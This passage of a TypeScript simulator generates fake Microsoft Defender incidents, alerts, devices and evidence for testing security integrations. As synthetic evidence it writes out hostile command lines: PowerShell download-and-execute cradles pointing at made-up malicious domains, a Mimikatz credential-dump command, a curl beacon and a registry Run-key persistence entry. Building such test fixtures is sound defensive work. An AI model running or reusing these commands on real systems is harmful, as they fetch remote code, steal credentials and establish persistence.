// The Defender data model behind the XDR, MDE, Graph and SIEM surfaces: one set of incidents per tenant, generated
// lazily and deterministically from (simulator seed, tenant id). Only small mutable records are stored per incident;
// alerts, devices and entities are re-derived from a seeded PRNG whenever a response is rendered, so 1,000 tenants
// x 100 incidents stay cheap.
import { createHash } from "node:crypto";

// ---------------------------------------------------------------------------------------------
// Seeded PRNG (mulberry32 over a sha256-derived seed)
// ---------------------------------------------------------------------------------------------

export function seed32(label: string): number {
  return createHash("sha256").update(label).digest().readUInt32BE(0);
}

export class Rng {
  private state: number;
  constructor(label: string) {
    this.state = seed32(label);
  }
  next(): number {
    this.state = (this.state + 0x6d2b79f5) | 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  pick<T>(list: readonly T[]): T {
    return list[Math.floor(this.next() * list.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  hex(chars: number): string {
    let s = "";
    while (s.length < chars)
      s += Math.floor(this.next() * 0x100000000)
        .toString(16)
        .padStart(8, "0");
    return s.slice(0, chars);
  }
  guid(): string {
    const h = this.hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${"89ab"[this.int(0, 3)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }
}

// ---------------------------------------------------------------------------------------------
// Enums (XDR spelling is canonical; Graph/MDE spellings are mapped in render.ts)
// ---------------------------------------------------------------------------------------------

export type IncidentStatus = "Active" | "InProgress" | "Resolved" | "Redirected";
export type Severity = "UnSpecified" | "Informational" | "Low" | "Medium" | "High";
export type Classification = "Unknown" | "TruePositive" | "FalsePositive" | "InformationalExpectedActivity";
// defender-docs defender-xdr/api-update-incidents.md: determination values per classification.
export const DETERMINATIONS: Record<Exclude<Classification, "Unknown">, readonly string[]> = {
  TruePositive: ["MultiStagedAttack", "MaliciousUserActivity", "CompromisedAccount", "Malware", "Phishing", "UnwantedSoftware", "Other"],
  InformationalExpectedActivity: ["SecurityTesting", "LineOfBusinessApplication", "ConfirmedActivity", "Other"],
  FalsePositive: ["Clean", "NoEnoughDataToValidate", "Other"],
};
export const SEVERITY_RANK: Record<Severity, number> = { UnSpecified: 0, Informational: 1, Low: 2, Medium: 3, High: 4 };

export type ServiceKey = "MDE" | "MDO" | "MCAS" | "MDI";
export type EntityType = "User" | "Ip" | "Url" | "File" | "Process" | "MailBox" | "MailMessage" | "MailCluster" | "Registry" | "SecurityGroup";

// ---------------------------------------------------------------------------------------------
// Alert templates
// ---------------------------------------------------------------------------------------------

export interface AlertTemplate {
  service: ServiceKey;
  title: string;
  description: string;
  category: string;
  severity: Severity;
  /** XDR/MDE detectionSource spelling (api-list-incidents.md and get-alerts.md examples). */
  detectionSource: string;
  mitre: readonly string[];
  threatFamilyName: string | null;
  actorName: string | null;
  entities: readonly EntityType[];
  recommendedActions: string;
}

const REC_ENDPOINT =
  "Collect artifacts and determine scope\n\tReview the machine timeline for suspicious activities that may have occurred before and after the time of the alert.\n\tLook for the presence of relevant artifacts on other systems.\n\nInitiate containment & mitigation\n\tContact the user to verify intent and initiate local remediation actions as needed.\n\tUpdate AV signatures and run a full scan.";
const REC_EMAIL = "Review the message in Explorer, check whether other recipients received it and purge it from all mailboxes.";
const REC_IDENTITY = "Confirm with the user whether the activity is expected; if not, reset the password, revoke sessions and review sign-in logs.";

export const TEMPLATES: readonly AlertTemplate[] = [
  {
    service: "MDE",
    title: "Suspicious PowerShell command line",
    description:
      "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
    category: "Execution",
    severity: "Medium",
    detectionSource: "WindowsDefenderAtp",
    mitre: ["T1059.001", "T1027"],
    threatFamilyName: null,
    actorName: null,
    entities: ["Process", "File", "User", "Url"],
    recommendedActions: REC_ENDPOINT,
  },
  {
    service: "MDE",
    title: "'Mimikatz' hacktool was detected",
    description:
      "Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users. When used by attackers, these tools are often installed without authorization and used to compromise targeted machines.",
    category: "CredentialAccess",
    severity: "High",
    detectionSource: "WindowsDefenderAv",
    mitre: ["T1003.001"],
    threatFamilyName: "Mimikatz",
    actorName: null,
    entities: ["File", "Process", "User"],
    recommendedActions: REC_ENDPOINT,
  },
  {
    service: "MDE",
    title: "Suspicious process injection observed",
    description: "A process abnormally injected code into another process. As a result, unexpected code may be running in the target process memory.",
    category: "DefenseEvasion",
    severity: "Medium",
    detectionSource: "WindowsDefenderAtp",
    mitre: ["T1055", "T1055.002"],
    threatFamilyName: null,
    actorName: null,
    entities: ["Process", "File"],
    recommendedActions: REC_ENDPOINT,
  },
  {
    service: "MDE",
    title: "Anomaly detected in ASEP registry",
    description: "A process registered a suspicious command or file in ASEP registry key, where it will be run after a reboot.",
    category: "Persistence",
    severity: "Low",
    detectionSource: "WindowsDefenderAtp",
    mitre: ["T1547.001"],
    threatFamilyName: null,
    actorName: null,
    entities: ["Registry", "Process", "File"],
    recommendedActions: REC_ENDPOINT,
  },
  {
    service: "MDE",
    title: "Connection to a custom network indicator",
    description: "An endpoint has connected to a URL or domain in your list of custom indicators.",
    category: "CommandAndControl",
    severity: "Medium",
    detectionSource: "CustomerTI",
    mitre: ["T1071.001"],
    threatFamilyName: null,
    actorName: null,
    entities: ["Ip", "Url", "Process"],
    recommendedActions: REC_ENDPOINT,
  },
  {
    service: "MDE",
    title: "Low-reputation arbitrary code executed by signed executable",
    description:
      "Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process.",
    category: "Execution",
    severity: "Low",
    detectionSource: "WindowsDefenderAtp",
    mitre: ["T1218.011"],
    threatFamilyName: null,
    actorName: null,
    entities: ["Process", "File", "User"],
    recommendedActions: REC_ENDPOINT,
  },
  {
    service: "MDE",
    title: "Ransomware behavior detected in the file system",
    description: "A process modified a large number of files with a new extension and dropped ransom notes, which is typical of ransomware.",
    category: "Impact",
    severity: "High",
    detectionSource: "WindowsDefenderAtp",
    mitre: ["T1486", "T1490"],
    threatFamilyName: "LockBit",
    actorName: "Storm-0501",
    entities: ["File", "Process", "User"],
    recommendedActions: REC_ENDPOINT,
  },
  {
    service: "MDO",
    title: "Email messages containing malicious URL removed after delivery",
    description: "Emails with malicious URL that were delivered and later removed -V1.0.0.3",
    category: "InitialAccess",
    severity: "Informational",
    detectionSource: "OfficeATP",
    mitre: ["T1566.002"],
    threatFamilyName: null,
    actorName: null,
    entities: ["MailBox", "MailMessage", "Url", "MailCluster", "Ip"],
    recommendedActions: REC_EMAIL,
  },
  {
    service: "MDO",
    title: "Email reported by user as malware or phish",
    description: "This alert is triggered when any email message is reported as malware or phish by users -V1.0.0.2",
    category: "InitialAccess",
    severity: "Informational",
    detectionSource: "OfficeATP",
    mitre: ["T1566.001"],
    threatFamilyName: null,
    actorName: null,
    entities: ["MailBox", "MailMessage", "Ip"],
    recommendedActions: REC_EMAIL,
  },
  {
    service: "MCAS",
    title: "Impossible travel activity",
    description: "The user signed in from two distant locations within a time period shorter than the travel time between them.",
    category: "InitialAccess",
    severity: "Medium",
    detectionSource: "MCAS",
    mitre: ["T1078.004"],
    threatFamilyName: null,
    actorName: null,
    entities: ["User", "Ip", "Ip"],
    recommendedActions: REC_IDENTITY,
  },
  {
    service: "MCAS",
    title: "Ransomware activity",
    description:
      "The user manipulated many files with multiple extensions ending with an uncommon extension. This is an unusual number of file manipulations and is indicative of a potential ransomware attack.",
    category: "Impact",
    severity: "High",
    detectionSource: "MCAS",
    mitre: ["T1486"],
    threatFamilyName: null,
    actorName: null,
    entities: ["User", "Ip"],
    recommendedActions: REC_IDENTITY,
  },
  {
    service: "MDI",
    title: "Suspected DCSync attack (replication of directory services)",
    description: "A replication request was sent from a computer that is not a domain controller to a domain controller.",
    category: "CredentialAccess",
    severity: "High",
    // UNCONFIRMED: the docs show no MDI example; "AzureATP" as the legacy service name.
    detectionSource: "AzureATP",
    mitre: ["T1003.006"],
    threatFamilyName: null,
    actorName: null,
    entities: ["User", "Ip", "SecurityGroup"],
    recommendedActions: REC_IDENTITY,
  },
  {
    // Used for incidents injected through the control API: every entity type, so overrides have a place to land.
    service: "MDE",
    title: "Suspicious activity observed",
    description: "Multiple suspicious artifacts were observed on the device.",
    category: "Execution",
    severity: "Medium",
    detectionSource: "WindowsDefenderAtp",
    mitre: ["T1059.001", "T1204.002"],
    threatFamilyName: null,
    actorName: null,
    entities: ["File", "Process", "Url", "Ip", "User", "MailBox", "MailMessage", "Registry"],
    recommendedActions: REC_ENDPOINT,
  },
];
export const COMPOSITE_TEMPLATE = TEMPLATES.length - 1;
const ENDPOINT_TEMPLATES = [0, 1, 2, 3, 4, 5, 6];
const OTHER_TEMPLATES = [7, 8, 9, 10, 11];

const CATEGORY_LABEL: Record<string, string> = {
  InitialAccess: "Initial access",
  Execution: "Execution",
  Persistence: "Persistence",
  DefenseEvasion: "Defense evasion",
  CredentialAccess: "Credential access",
  CommandAndControl: "Command and control",
  Impact: "Impact",
};

// ---------------------------------------------------------------------------------------------
// Tenant pools: devices and users
// ---------------------------------------------------------------------------------------------

export interface Device {
  mdatpDeviceId: string;
  aadDeviceId: string | null;
  deviceDnsName: string;
  machineName: string;
  machineDomain: string;
  osPlatform: string;
  version: string;
  osProcessor: string;
  osBuild: number;
  healthStatus: string;
  riskScore: string;
  rbacGroupName: string;
  rbacGroupId: number;
  firstSeenMs: number;
  ipAddress: string;
  cloudTags: string[];
  deviceTags: string[];
}

export interface TenantUser {
  accountName: string;
  displayName: string;
  upn: string;
  domainName: string;
  userSid: string;
  aadUserId: string;
}

const FIRST = ["Alex", "Blake", "Casey", "Dana", "Elliot", "Frankie", "Jordan", "Kai", "Morgan", "Quinn", "Riley", "Sam", "Taylor", "Rowan"];
const LAST = ["Andersen", "Bauer", "Chen", "Dubois", "Estrada", "Fischer", "Garcia", "Haddad", "Ivanova", "Jensen", "Kowalski", "Larsen", "Moreau", "Nakamura"];
const DEVICE_PREFIX = ["DESKTOP", "LAPTOP", "WKS", "SRV-FS", "SRV-APP", "DC"];
const RBAC_GROUPS = ["UnassignedGroup", "Workstations", "Servers", "VIP devices"];
const CLOUD_TAGS = ["VIP", "Finance", "PCI", "Kiosk"];

function pools(seed: string, tenantId: string, domain: string, anchorMs: number): { devices: Device[]; users: TenantUser[] } {
  const r = new Rng(`${seed}|${tenantId}|pools`);
  const prefix = domain.split(".")[0] ?? "corp";
  const netbios = prefix.toUpperCase().slice(0, 15);
  const devices: Device[] = [];
  for (let i = 0; i < 8; i++) {
    const kind = r.pick(DEVICE_PREFIX);
    const name = `${kind}-${r.hex(6).toUpperCase()}`.toLowerCase();
    const server = kind.startsWith("SRV") || kind === "DC";
    const groupIdx = server ? 2 : r.int(0, 3);
    devices.push({
      mdatpDeviceId: r.hex(40),
      aadDeviceId: server ? null : r.guid(),
      deviceDnsName: `${name}.${prefix}.corp`,
      machineName: name,
      machineDomain: `${prefix}.corp`,
      osPlatform: server ? "WindowsServer2022" : r.pick(["Windows11", "Windows10"]),
      version: server ? "21H2" : r.pick(["22H2", "23H2"]),
      osProcessor: "x64",
      osBuild: server ? 20348 : r.pick([19045, 22621, 22631]),
      healthStatus: "Active",
      riskScore: r.pick(["None", "Low", "Medium", "High"]),
      rbacGroupName: RBAC_GROUPS[groupIdx]!,
      rbacGroupId: 70 + groupIdx,
      firstSeenMs: anchorMs - r.int(60, 400) * 86_400_000,
      ipAddress: `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(2, 254)}`,
      cloudTags: r.chance(0.4) ? [r.pick(CLOUD_TAGS)] : [],
      deviceTags: r.chance(0.2) ? ["Onboarded-GPO"] : [],
    });
  }
  const users: TenantUser[] = [];
  for (let i = 0; i < 6; i++) {
    const first = r.pick(FIRST);
    const last = r.pick(LAST);
    const accountName = `${first[0]!.toLowerCase()}${last.toLowerCase()}${i}`;
    users.push({
      accountName,
      displayName: `${first} ${last}`,
      upn: `${accountName}@${domain}`,
      domainName: netbios,
      userSid: `S-1-5-21-${r.int(1e9, 4e9)}-${r.int(1e9, 4e9)}-${r.int(1e8, 9e8)}-${1100 + i}`,
      aadUserId: r.guid(),
    });
  }
  return { devices, users };
}

// ---------------------------------------------------------------------------------------------
// Stored records
// ---------------------------------------------------------------------------------------------

export interface CommentRec {
  comment: string;
  createdBy: string;
  createdMs: number;
}

export interface AlertRec {
  id: string;
  /** Template index. */
  t: number;
  createdMs: number;
}

/** Values the control API can force into an injected incident (hostile-data tests). */
export interface Overrides {
  incidentName?: string;
  description?: string;
  alertTitle?: string;
  alertDescription?: string;
  fileName?: string;
  filePath?: string;
  processCommandLine?: string;
  url?: string;
  ipAddress?: string;
  accountName?: string;
  userPrincipalName?: string;
  subject?: string;
  sender?: string;
  registryKey?: string;
  registryValue?: string;
  deviceDnsName?: string;
  threatFamilyName?: string;
}

export interface IncidentRec {
  id: number;
  createdMs: number;
  lastUpdateMs: number;
  status: IncidentStatus;
  redirectIncidentId: number | null;
  assignedTo: string | null;
  classification: Classification;
  determination: string;
  severityOverride?: Severity;
  tags: string[];
  systemTags: string[];
  comments: CommentRec[];
  alerts: AlertRec[];
  devices: number[];
  user: number;
  overrides?: Overrides;
}

export interface TenantData {
  tenantId: string;
  domain: string;
  volume: number;
  incidents: IncidentRec[];
  byId: Map<number, IncidentRec>;
  nextId: number;
  devices: Device[];
  users: TenantUser[];
  ticks: number;
  /** Highest lastUpdateMs handed out, so updates are strictly increasing. */
  clock: number;
}

const DAY = 86_400_000;
const SPREAD_MS = 42 * DAY;

/** .NET ticks, as in MDE alert ids (`da637349914833441527_393341063`). */
function dotnetTicks(ms: number): string {
  return (BigInt(ms) * 10_000n + 621_355_968_000_000_000n).toString();
}

function alertId(seed: string, tenantId: string, incidentId: number, n: number, t: number, createdMs: number): string {
  const r = new Rng(`${seed}|${tenantId}|alertid|${incidentId}|${n}`);
  switch (TEMPLATES[t]!.service) {
    case "MDE":
      return `da${dotnetTicks(createdMs + r.int(0, 999))}_${(r.int(0, 0xffffffff) | 0).toString()}`;
    case "MDO":
      return `fa${r.guid().slice(2)}`;
    case "MCAS":
      return `ca${r.guid().slice(2).toUpperCase()}`;
    case "MDI":
      // UNCONFIRMED: no MDI alert id in the docs; an "aa" prefix like the other non-endpoint services.
      return `aa${r.guid().slice(2)}`;
  }
}

function pickAlertCount(r: Rng): number {
  const x = r.next();
  return x < 0.35 ? 1 : x < 0.6 ? 2 : x < 0.8 ? 3 : x < 0.92 ? 4 : 5;
}

function pickTemplates(r: Rng, count: number): number[] {
  const endpoint = r.chance(0.65);
  const first = endpoint ? r.pick(ENDPOINT_TEMPLATES) : r.pick(OTHER_TEMPLATES);
  const out = [first];
  while (out.length < count) out.push(r.chance(0.75) === endpoint ? r.pick(ENDPOINT_TEMPLATES) : r.pick(OTHER_TEMPLATES));
  return out;
}

export const ANALYSTS = ["secops1", "secops2", "tier2", "soc-lead"];

function analyst(r: Rng, domain: string): string {
  return `${r.pick(ANALYSTS)}@${domain}`;
}

const COMMENTS = [
  "Investigating with the device owner.",
  "Isolated the device pending review.",
  "Confirmed with IT: this was a scheduled pen test.",
  "Collected investigation package.",
  "User reset password; sessions revoked.",
  "Escalated to tier 2.",
];
const TAGS = ["VIP", "Ransomware", "Pen-test", "Phishing campaign", "Escalated"];

export class DefenderModel {
  private readonly tenants = new Map<string, TenantData>();

  constructor(
    readonly seed: string,
    readonly anchorMs: number,
    private defaultVolume: number,
  ) {}

  get materializedTenants(): number {
    return this.tenants.size;
  }

  get incidentsPerTenant(): number {
    return this.defaultVolume;
  }

  setDefaultVolume(n: number): void {
    this.defaultVolume = n;
  }

  volumeOverride = new Map<string, number>();

  /** Sets the volume for one tenant; its data is regenerated on next access (mutations are dropped). */
  setVolume(tenantId: string, n: number): void {
    this.volumeOverride.set(tenantId, n);
    this.tenants.delete(tenantId);
  }

  peek(tenantId: string): TenantData | undefined {
    return this.tenants.get(tenantId);
  }

  allMaterialized(): IterableIterator<TenantData> {
    return this.tenants.values();
  }

  /** The tenant's data, generated on first access. */
  tenant(tenantId: string, domain: string): TenantData {
    let data = this.tenants.get(tenantId);
    if (!data) {
      data = this.generate(tenantId, domain, this.volumeOverride.get(tenantId) ?? this.defaultVolume);
      this.tenants.set(tenantId, data);
    }
    return data;
  }

  private generate(tenantId: string, domain: string, volume: number): TenantData {
    const { devices, users } = pools(this.seed, tenantId, domain, this.anchorMs);
    const r = new Rng(`${this.seed}|${tenantId}|incidents`);
    const data: TenantData = {
      tenantId,
      domain,
      volume,
      incidents: [],
      byId: new Map(),
      nextId: 1000 + r.int(0, 60_000),
      devices,
      users,
      ticks: 0,
      clock: 0,
    };
    const step = SPREAD_MS / Math.max(1, volume);
    for (let i = 0; i < volume; i++) {
      const createdMs = Math.floor(this.anchorMs - SPREAD_MS + i * step + r.next() * step * 0.8);
      const age = this.anchorMs - createdMs;
      const lastUpdateMs = Math.min(this.anchorMs, createdMs + Math.floor(r.next() * Math.min(age, 7 * DAY)));
      const inc = this.newIncident(data, r, createdMs, lastUpdateMs, pickTemplates(r, pickAlertCount(r)));
      // Older incidents are more likely to be closed.
      const oldness = age / SPREAD_MS;
      const x = r.next();
      if (x < oldness * 0.75) this.resolve(inc, r);
      else if (x < oldness * 0.75 + 0.2) inc.status = "InProgress";
      if (inc.status !== "Active" || r.chance(0.3)) inc.assignedTo = analyst(r, domain);
      if (r.chance(0.25)) inc.tags.push(r.pick(TAGS));
      if (r.chance(0.05)) inc.systemTags.push("Defender Experts");
      const nComments = r.chance(0.4) ? r.int(1, 2) : 0;
      for (let c = 0; c < nComments; c++) {
        inc.comments.push({ comment: r.pick(COMMENTS), createdBy: analyst(r, domain), createdMs: Math.min(lastUpdateMs, createdMs + r.int(60_000, DAY)) });
      }
    }
    // A few incidents were merged into a newer one (status Redirected).
    for (const inc of data.incidents) {
      if (inc.status !== "Resolved" && r.chance(0.03)) {
        const target = data.incidents.find((o) => o.createdMs > inc.createdMs && o.status !== "Redirected");
        if (target) {
          inc.status = "Redirected";
          inc.redirectIncidentId = target.id;
        }
      }
    }
    data.clock = this.anchorMs;
    return data;
  }

  private resolve(inc: IncidentRec, r: Rng): void {
    inc.status = "Resolved";
    const x = r.next();
    inc.classification = x < 0.55 ? "TruePositive" : x < 0.8 ? "FalsePositive" : "InformationalExpectedActivity";
    inc.determination = r.pick(DETERMINATIONS[inc.classification as Exclude<Classification, "Unknown">]);
  }

  private newIncident(data: TenantData, r: Rng, createdMs: number, lastUpdateMs: number, templates: number[], overrides?: Overrides): IncidentRec {
    const id = data.nextId;
    data.nextId += r.int(1, 3);
    const endpoint = templates.some((t) => TEMPLATES[t]!.service === "MDE");
    const nDevices = endpoint ? (r.chance(0.25) ? 2 : 1) : 0;
    const devices: number[] = [];
    while (devices.length < nDevices) {
      const d = r.int(0, data.devices.length - 1);
      if (!devices.includes(d)) devices.push(d);
    }
    const inc: IncidentRec = {
      id,
      createdMs,
      lastUpdateMs,
      status: "Active",
      redirectIncidentId: null,
      assignedTo: null,
      classification: "Unknown",
      determination: "NotAvailable",
      tags: [],
      systemTags: [],
      comments: [],
      alerts: [],
      devices,
      user: r.int(0, data.users.length - 1),
      ...(overrides ? { overrides } : {}),
    };
    templates.forEach((t, n) => {
      const aCreated = Math.max(createdMs - 120_000, createdMs - r.int(1_000, 120_000) + n * r.int(1_000, 600_000));
      inc.alerts.push({ id: alertId(this.seed, data.tenantId, id, n, t, aCreated), t, createdMs: Math.min(aCreated, lastUpdateMs) });
    });
    data.incidents.push(inc);
    data.byId.set(id, inc);
    return inc;
  }

  /** Strictly increasing "now" for this tenant's updates. */
  private now(data: TenantData): number {
    data.clock = Math.max(Date.now(), data.clock + 1);
    return data.clock;
  }

  touch(data: TenantData, inc: IncidentRec): void {
    inc.lastUpdateMs = this.now(data);
  }

  /** Creates one incident now (control API injection or ticker). */
  create(data: TenantData, opts: { templates?: number[]; overrides?: Overrides; label: string }): IncidentRec {
    const r = new Rng(`${this.seed}|${data.tenantId}|create|${opts.label}`);
    const now = this.now(data);
    const templates = opts.templates ?? pickTemplates(r, pickAlertCount(r));
    return this.newIncident(data, r, now, now, templates, opts.overrides);
  }

  /** Deterministic ticker step: creates and updates incidents. */
  tick(data: TenantData, create: number, update: number): { created: number[]; updated: number[] } {
    data.ticks += 1;
    const r = new Rng(`${this.seed}|${data.tenantId}|tick|${data.ticks}`);
    const created: number[] = [];
    for (let i = 0; i < create; i++) created.push(this.create(data, { label: `tick${data.ticks}.${i}` }).id);
    const candidates = data.incidents.filter((i) => i.status !== "Redirected" && !created.includes(i.id));
    const open = candidates.filter((i) => i.status !== "Resolved");
    const pool = open.length >= update ? open : candidates;
    const updated: number[] = [];
    for (let i = 0; i < update && pool.length > 0; i++) {
      const inc = pool.splice(r.int(0, pool.length - 1), 1)[0]!;
      const action = r.int(0, 3);
      if (action === 0 && inc.status === "Active") inc.status = "InProgress";
      else if (action === 1 && inc.status !== "Resolved") this.resolve(inc, r);
      else if (action === 2 && inc.alerts.length < 5) {
        const t = inc.devices.length > 0 ? r.pick(ENDPOINT_TEMPLATES) : r.pick(OTHER_TEMPLATES);
        const n = inc.alerts.length;
        const at = this.now(data);
        inc.alerts.push({ id: alertId(this.seed, data.tenantId, inc.id, n, t, at), t, createdMs: at });
      }
      inc.assignedTo ??= analyst(r, data.domain);
      inc.comments.push({ comment: r.pick(COMMENTS), createdBy: inc.assignedTo, createdMs: this.now(data) });
      this.touch(data, inc);
      updated.push(inc.id);
    }
    return { created, updated };
  }
}

// ---------------------------------------------------------------------------------------------
// Derived views (pure functions of the record + seed)
// ---------------------------------------------------------------------------------------------

export interface Entity {
  entityType: EntityType;
  evidenceCreationMs: number;
  sha1?: string | null;
  sha256?: string | null;
  md5?: string | null;
  fileName?: string | null;
  filePath?: string | null;
  fileSize?: number | null;
  processId?: number | null;
  processCommandLine?: string | null;
  processCreationMs?: number | null;
  parentProcessId?: number | null;
  parentProcessCreationMs?: number | null;
  parentProcessFileName?: string | null;
  parentProcessFilePath?: string | null;
  ipAddress?: string | null;
  countryLetterCode?: string | null;
  url?: string | null;
  accountName?: string | null;
  domainName?: string | null;
  userSid?: string | null;
  aadUserId?: string | null;
  userPrincipalName?: string | null;
  displayName?: string | null;
  mailboxDisplayName?: string | null;
  mailboxAddress?: string | null;
  clusterBy?: string | null;
  sender?: string | null;
  recipient?: string | null;
  subject?: string | null;
  deliveryAction?: string | null;
  networkMessageId?: string | null;
  internetMessageId?: string | null;
  securityGroupId?: string | null;
  securityGroupName?: string | null;
  registryHive?: string | null;
  registryKey?: string | null;
  registryValueType?: string | null;
  registryValue?: string | null;
  registryValueName?: string | null;
  deviceId?: string | null;
  detectionStatus?: string | null;
}

export interface AlertView {
  alertId: string;
  incidentId: number;
  template: AlertTemplate;
  title: string;
  description: string;
  severity: Severity;
  status: "New" | "InProgress" | "Resolved";
  classification: Classification | null;
  determination: string | null;
  assignedTo: string | null;
  createdMs: number;
  lastUpdatedMs: number;
  resolvedMs: number | null;
  firstActivityMs: number;
  lastActivityMs: number;
  investigationId: number | null;
  investigationState: string;
  detectorId: string;
  threatFamilyName: string | null;
  threatName: string | null;
  actorName: string | null;
  devices: Device[];
  user: TenantUser;
  entities: Entity[];
}

export interface IncidentView {
  rec: IncidentRec;
  name: string;
  description: string;
  severity: Severity;
  alerts: AlertView[];
}

const EVIL_DOMAINS = ["down.esales360.cn", "cdn-update-check.net", "login-micros0ft-secure.com", "files.sharepointe.info", "img.track-pixel.biz"];
const PARENTS: readonly [string, string][] = [
  ["winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"],
  ["cmd.exe", "C:\\Windows\\System32"],
  ["explorer.exe", "C:\\Windows"],
  ["outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"],
  ["wmiprvse.exe", "C:\\Windows\\System32\\wbem"],
];
const COUNTRIES = ["US", "NL", "RU", "BR", "SG", "DE", "NG"];

function publicIp(r: Rng): string {
  return `${r.pick([23, 45, 62, 91, 103, 141, 185, 193, 203])}.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}`;
}

function processLine(t: number, r: Rng, user: TenantUser, domain: string): { fileName: string; filePath: string; cmd: string } {
  switch (t) {
    case 0:
      return r.chance(0.5)
        ? {
            fileName: "powershell.exe",
            filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            cmd: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${Buffer.from(`IEX (iwr http://${domain}/a.ps1)`, "utf16le").toString("base64")}`,
          }
        : {
            fileName: "powershell.exe",
            filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            cmd: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${domain}/update.ps1')"`,
          };
    case 1:
      return {
        fileName: "mimikatz.exe",
        filePath: `C:\\Users\\${user.accountName}\\Downloads`,
        cmd: `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
      };
    case 2:
      return { fileName: "rundll32.exe", filePath: "C:\\Windows\\SysWOW64", cmd: `rundll32.exe C:\\ProgramData\\${r.hex(8)}.dll,DllRegisterServer` };
    case 3:
      return {
        fileName: "reg.exe",
        filePath: "C:\\Windows\\System32",
        cmd: `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "C:\\Users\\${user.accountName}\\AppData\\Roaming\\updater.exe"`,
      };
    case 4:
      return { fileName: "curl.exe", filePath: "C:\\Windows\\System32", cmd: `curl.exe -s https://${domain}/beacon?id=${r.hex(12)}` };
    case 5:
      return { fileName: "rundll32.exe", filePath: "C:\\Windows\\SysWOW64", cmd: `rundll32.exe  c:\\temp\\${r.hex(6)}.dll,RepeatAfterMe` };
    case 6:
      return { fileName: `${r.hex(8)}.exe`, filePath: "C:\\ProgramData", cmd: `${r.hex(8)}.exe -path C:\\ -enc` };
    default:
      return {
        fileName: "powershell.exe",
        filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        cmd: `powershell.exe -c "Start-Process C:\\Users\\${user.accountName}\\Downloads\\invoice.exe"`,
      };
  }
}

/**
 * An alert's evidence, built once while it is in use. Its inputs are fixed when the alert is created (the alert's
 * template and time, its incident's id, first device, user and overrides; later alerts only append), and building it
 * (hashes, hex, strings) was most of the simulator's CPU in a bench sync, which asks for every alert two or three
 * times within seconds (incidents feed, alerts feed). Bounded, least recently used out: kept for every alert of 1,000
 * tenants, it would hold hundreds of MiB for the whole run. Readers never mutate entities: every surface renders new
 * objects from them.
 */
const ENTITY_CACHE_ALERTS = 20_000;
const entitiesOf = new Map<AlertRec, { key: string; entities: Entity[] }>();

function alertEntities(seed: string, data: TenantData, inc: IncidentRec, a: AlertRec, n: number, devices: Device[], user: TenantUser): Entity[] {
  const key = `${seed}|${data.tenantId}|${inc.id}|${n}|${devices[0]?.mdatpDeviceId ?? ""}|${user.upn}`;
  const cached = entitiesOf.get(a);
  entitiesOf.delete(a);
  const entry = cached?.key === key ? cached : { key, entities: buildEntities(seed, data, inc, a, n, devices, user) };
  entitiesOf.set(a, entry);
  if (entitiesOf.size > ENTITY_CACHE_ALERTS) entitiesOf.delete(entitiesOf.keys().next().value!);
  return entry.entities;
}

/** Defender's detector id is per detection rule: one hash per template title, not per alert. */
const detectorIds = new Map<string, string>();
function detectorId(title: string): string {
  let id = detectorIds.get(title);
  if (id === undefined) detectorIds.set(title, (id = new Rng(`detector|${title}`).guid()));
  return id;
}

function buildEntities(seed: string, data: TenantData, inc: IncidentRec, a: AlertRec, n: number, devices: Device[], user: TenantUser): Entity[] {
  const r = new Rng(`${seed}|${data.tenantId}|entities|${inc.id}|${n}`);
  const tpl = TEMPLATES[a.t]!;
  const o = inc.overrides ?? {};
  const domain = r.pick(EVIL_DOMAINS);
  const dev = devices[0]?.mdatpDeviceId ?? null;
  const at = a.createdMs + 500;
  const proc = processLine(a.t, r, user, domain);
  const processCreationMs = a.createdMs - r.int(5_000, 120_000);
  const parent = r.pick(PARENTS);
  const fileNameDefault = a.t === 1 ? "mimikatz.exe" : a.t === 6 ? `${r.hex(6)}.lockbit` : a.t === 0 ? `${r.hex(6)}.ps1` : `${r.hex(8)}.dll`;
  const filePathDefault =
    a.t === 0 ? `C:\\Users\\${user.accountName}\\AppData\\Local\\Temp` : a.t === 6 ? `C:\\Users\\${user.accountName}\\Documents` : "C:\\ProgramData";
  const mailSender = `billing@${domain}`;
  const out: Entity[] = [];
  for (const type of tpl.entities) {
    const base = { entityType: type, evidenceCreationMs: at, deviceId: null as string | null, detectionStatus: null as string | null };
    switch (type) {
      case "File":
        out.push({
          ...base,
          sha1: r.hex(40),
          sha256: r.hex(64),
          md5: r.hex(32),
          fileName: o.fileName ?? fileNameDefault,
          filePath: o.filePath ?? filePathDefault,
          fileSize: r.int(20_000, 4_000_000),
          deviceId: dev,
          detectionStatus: r.pick(["Detected", "Blocked", "Prevented"]),
        });
        break;
      case "Process":
        out.push({
          ...base,
          sha1: r.hex(40),
          sha256: r.hex(64),
          fileName: proc.fileName,
          filePath: proc.filePath,
          processId: r.int(1000, 20000),
          processCommandLine: o.processCommandLine ?? proc.cmd,
          processCreationMs,
          parentProcessId: r.int(400, 16000),
          parentProcessCreationMs: processCreationMs - r.int(60_000, 3_600_000),
          parentProcessFileName: parent[0],
          parentProcessFilePath: parent[1],
          deviceId: dev,
          detectionStatus: "Detected",
          accountName: user.accountName,
          domainName: user.domainName,
          userSid: user.userSid,
